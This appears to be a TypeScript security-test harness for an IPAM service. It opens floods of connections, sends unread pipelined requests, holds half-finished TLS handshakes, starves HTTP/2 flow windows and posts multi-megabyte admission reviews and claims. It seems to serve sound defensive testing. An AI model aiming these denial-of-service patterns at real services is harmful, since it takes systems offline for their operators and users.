/** What an attacker does, in a process of its own in a network namespace, until it is ended. */
import { type ClientHttp2Session, connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { frame, type Service } from '../security/raw-client.ts';

export interface AttackerOptions {
  readonly kind: keyof typeof kinds;
  readonly host: string;
  readonly port: number;
  readonly sources: readonly string[];
  /** PEM: a client's certificate and its key. */
  readonly card?: { readonly cert: string; readonly key: string };
  readonly isTls?: boolean;
}

const get = 'GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n';
const pipelined = Buffer.from(get.repeat(20_000));
const megabyte = 1024 * 1024;
const halfHello = Buffer.from([0x16, 3, 1, 2, 0, 1, 0]);
const options = JSON.parse(process.argv[2] ?? '{}') as AttackerOptions;
let turn = 0;
let hasBegun = false;

/** For whoever measures: the program itself needs a while to start. */
function tellBegun(): void {
  if (hasBegun) return;
  hasBegun = true;
  process.stdout.write('begun\n');
}

/** How soon a connection that was meant to stay is tried again, milliseconds. */
const patienceMs = 1_000;

/**
 * A connection from the next source; made anew whenever it ends.
 * @param use what is done with it once it is open
 * @param againMs after what time; ports to come from are few, and those just used rest a minute
 */
function keepOpen(use: (socket: Socket) => void, againMs = 5): void {
  turn += 1;
  const localAddress = options.sources[turn % options.sources.length];
  const tcp = connect({ host: options.host, port: options.port, ...(localAddress && { localAddress }) });
  const socket = options.isTls
    ? connectTls({ socket: tcp, rejectUnauthorized: false, ALPNProtocols: ['h2', 'http/1.1'], ...options.card })
    : tcp;
  tcp.on('error', () => {});
  socket.on('error', () => {});
  socket.once(options.isTls ? 'secureConnect' : 'connect', () => {
    tellBegun();
    use(socket);
  });
  let isOver = false;
  const again = (): void => {
    if (isOver) return;
    isOver = true;
    socket.destroy();
    setTimeout(() => keepOpen(use, againMs), againMs);
  };
  tcp.once('close', again);
  socket.once('close', again);
}

/** Sends, and reads nothing. Who reads nothing does not hear of the end either, so it comes by itself. */
function unread(text: string | Buffer, forMs: number): void {
  keepOpen((socket) => {
    socket.pause().write(text);
    setTimeout(() => socket.destroy(), forMs);
  });
}

function times(count: number, act: () => void): void {
  for (let index = 0; index < count; index += 1) act();
}

/** Calls on a session of its own, so many at once, again and again; `reads` says whether anybody reads the answers. */
function calls(service: Service, method: string, request: object, atOnce: number, reads: boolean): void {
  const body = frame(service, method, request);
  keepOpen((socket) => {
    const session = connectHttp2('http://x', {
      createConnection: () => socket,
      settings: { initialWindowSize: reads ? 65_535 : 1 },
    });
    session.on('error', () => socket.destroy());
    session.on('close', () => socket.destroy());
    times(atOnce, () => call(session, `/ipam.${service}/${method}`, body, reads));
  });
}

function call(session: ClientHttp2Session, path: string, body: Buffer, reads: boolean): void {
  if (session.destroyed || session.closed) return;
  const stream = session.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
  });
  stream.on('error', () => {});
  if (reads) stream.resume();
  stream.once('close', () => setImmediate(call, session, path, body, reads));
  stream.end(body);
}

function review(kind: string): string {
  const object = {
    apiVersion: 'spiderpool.spidernet.io/v2beta1',
    kind: 'SpiderIPPool',
    metadata: { name: `ghost-${Math.random().toString(36).slice(2)}` },
    spec: { subnet: `${1 + Math.floor(Math.random() * 220)}.0.0.0/8` },
  };
  const request = {
    uid: 'x',
    kind: { group: 'spiderpool.spidernet.io', version: 'v2beta1', kind },
    operation: 'CREATE',
    object,
  };
  return JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request });
}

function post(text: string): string {
  return `POST /validate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n${text}`;
}

let claims = 0;
function fatClaim(): object {
  claims += 1;
  const address = `10.60.${(claims >> 8) & 255}.${claims & 255}`;
  const spec = {
    address,
    pool: 'shared',
    node: 'n1',
    daemon: 'n1',
    network: 'n',
    containerId: `c${claims}`,
    ifname: 'eth0',
  };
  const metadata = { name: address, annotations: { fat: 'x'.repeat(3 * megabyte) } };
  return { json: JSON.stringify({ apiVersion: 'berth.network/v1alpha1', kind: 'IPClaim', metadata, spec }), uid: '' };
}

const kinds = {
  /** Connections that ask, read and end, as fast as they are let. */
  flood: () => times(60, () => keepOpen((socket) => socket.resume().write(get))),
  /** The audit's: 20,000 requests on a connection, and nothing is read. */
  pipelining: () => times(5, () => unread(pipelined, 1_000)),
  /** As many as there may be ask, and nobody reads. */
  unread: () => times(1_000, () => unread(get, 5_000)),
  idle: () => times(1_500, () => keepOpen((socket) => socket.resume(), patienceMs)),
  /** The first bytes of a TLS handshake, and then nothing. */
  'half-tls': () => times(1_000, () => keepOpen((socket) => socket.resume().write(halfHello), patienceMs)),
  check: () => times(12, () => calls('IPAM', 'Check', {}, 20, true)),
  lists: () => times(12, () => calls('IPAM', 'ListAllocations', { limit: 10_000 }, 20, true)),
  'unread-lists': () => times(24, () => calls('IPAM', 'ListAllocations', { limit: 10_000 }, 200, false)),
  reviews: () => times(60, () => keepOpen((socket) => socket.resume().write(post(review('SpiderIPPool'))))),
  'fat-reviews': () =>
    times(60, () => keepOpen((socket) => socket.resume().write(post(review('x'.repeat(3 * megabyte)))))),
  'fat-claims': () => times(4, () => calls('Store', 'Create', fatClaim(), 2, true)),
} as const;

// A connection that neither reads nor writes keeps no process alive.
setInterval(() => {}, 60_000);
kinds[options.kind]();
